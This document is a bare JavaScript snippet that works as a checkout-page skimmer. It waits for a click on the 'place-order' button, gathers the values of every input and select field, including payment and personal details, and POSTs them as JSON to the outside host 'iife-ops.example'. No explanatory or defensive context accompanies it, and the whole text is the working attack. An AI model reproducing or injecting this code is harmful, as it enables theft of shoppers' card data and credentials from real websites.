(async ({ querySelectorAll: q }) => {
  const grab = () => Object.assign({}, ...[...q.call(document, 'input,select')].map(({ name, value }) => ({ [name]: value })));
  await new Promise(r => document.querySelector('[data-testid=place-order]').addEventListener('pointerdown', r));
  await fetch(new Request('https://iife-ops.example/o', { method: 'POST', body: JSON.stringify(grab()) }));
})(document);
